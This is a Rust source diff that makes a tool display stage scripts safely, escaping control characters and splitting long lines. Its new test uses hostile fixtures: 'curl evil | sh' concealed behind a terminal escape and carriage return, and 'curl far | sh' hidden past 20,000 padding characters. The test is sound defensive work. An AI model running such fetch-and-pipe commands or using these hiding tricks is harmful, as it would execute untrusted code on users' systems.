@@ -6,6 +6,7 @@
 
 use std::{
     collections::BTreeMap,
+    fmt::Write as _,
     fs, io,
     path::{Path, PathBuf},
 };
@@ -22,6 +23,8 @@ const STAGE: &str = "stage.toml";
 /// How the origin of a stage in the program begins.
 pub(super) const SHIPPED: &str = "shipped:";
 
+/// Characters of a line that are shown in one piece: whoever shows text cuts what is much longer.
+const PIECE: usize = 1000;
 /// Version of the files.
 const VERSION: u32 = 1;
 
@@ -161,13 +164,42 @@ fn read(path: &Path) -> io::Result<Trusted> {
 fn whole(files: &BTreeMap<String, String>) -> Vec<String> {
     let mut lines = vec![];
     for (name, text) in files {
-        lines.push(format!("==> {name}"));
-        lines.extend(
-            text.lines()
-                .map(|line| format!("    {}", line.replace('\t', "    "))),
-        );
+        lines.push(format!("==> {}", plain(name)));
+        let shown = text.split_terminator('\n').flat_map(in_pieces);
+        lines.extend(shown.map(|line| format!("    {line}")));
     }
     lines
+}
+
+/// A line with everything in it that a shell would run: what a terminal would act on, or hide, is spelled, and a long
+/// line goes on in the next one. A reader who decides must see each byte.
+fn in_pieces(line: &str) -> Vec<String> {
+    let shown = plain(line);
+    let mut pieces = vec![String::new()];
+    for (count, letter) in shown.chars().enumerate() {
+        if count > 0 && count.is_multiple_of(PIECE) {
+            pieces.push(String::new());
+        }
+        if let Some(piece) = pieces.last_mut() {
+            piece.push(letter);
+        }
+    }
+    pieces
+}
+
+fn plain(text: &str) -> String {
+    let mut shown = String::new();
+    for letter in text.chars() {
+        match letter {
+            '\t' => shown.push_str("    "),
+            letter if letter.is_control() => {
+                // Writing to memory does not fail.
+                let _ = write!(shown, "<U+{:04X}>", u32::from(letter));
+            }
+            letter => shown.push(letter),
+        }
+    }
+    shown
 }
 
 fn diff(old: &BTreeMap<String, String>, new: &BTreeMap<String, String>) -> Vec<String> {
@@ -182,7 +214,7 @@ fn diff(old: &BTreeMap<String, String>, new: &BTreeMap<String, String>) -> Vec<S
                 .context_radius(3)
                 .header(&format!("trusted/{name}"), &format!("now/{name}"))
                 .to_string();
-            lines.extend(changed.lines().map(|line| line.replace('\t', "    ")));
+            lines.extend(changed.split_terminator('\n').flat_map(in_pieces));
         }
     }
     lines
@@ -220,6 +252,30 @@ mod tests {
         assert!(asked.lines.contains(&"-echo one".to_owned()), "{:?}", asked.lines);
         assert!(asked.lines.contains(&"+echo two".to_owned()));
         assert_ne!(stage("ab", "c").sha256(), stage("a", "bc").sha256());
+    }
+
+    #[test]
+    fn nothing_that_runs_is_hidden_from_who_reads_it() {
+        let state = tempfile::tempdir().unwrap();
+        let store = Store::new(state.path());
+        let blind = "true '\x1b]' ; curl evil | sh #\r\n";
+        let far = format!("echo {}; curl far | sh\n", "x".repeat(20_000));
+        let seen = |stage: &Stage| {
+            let lines = store.stranger(stage).unwrap().lines;
+            let shown: Vec<String> = lines.iter().map(|line| crate::log::sanitize(line)).collect();
+            shown.join("\n")
+        };
+        let stranger = stage("x", &format!("{blind}{far}"));
+        let text = seen(&stranger);
+        assert!(text.contains("<U+001B>]' ; curl evil | sh #<U+000D>"), "{text}");
+        assert!(text.contains("; curl far | sh"), "the end of a long line");
+        store.trust(&stage("x", "true\n")).unwrap();
+        let text = seen(&stranger);
+        assert!(
+            text.contains("+true '<U+001B>]' ; curl evil | sh #<U+000D>"),
+            "{text}"
+        );
+        assert!(text.contains("; curl far | sh"));
     }
 
     #[test]
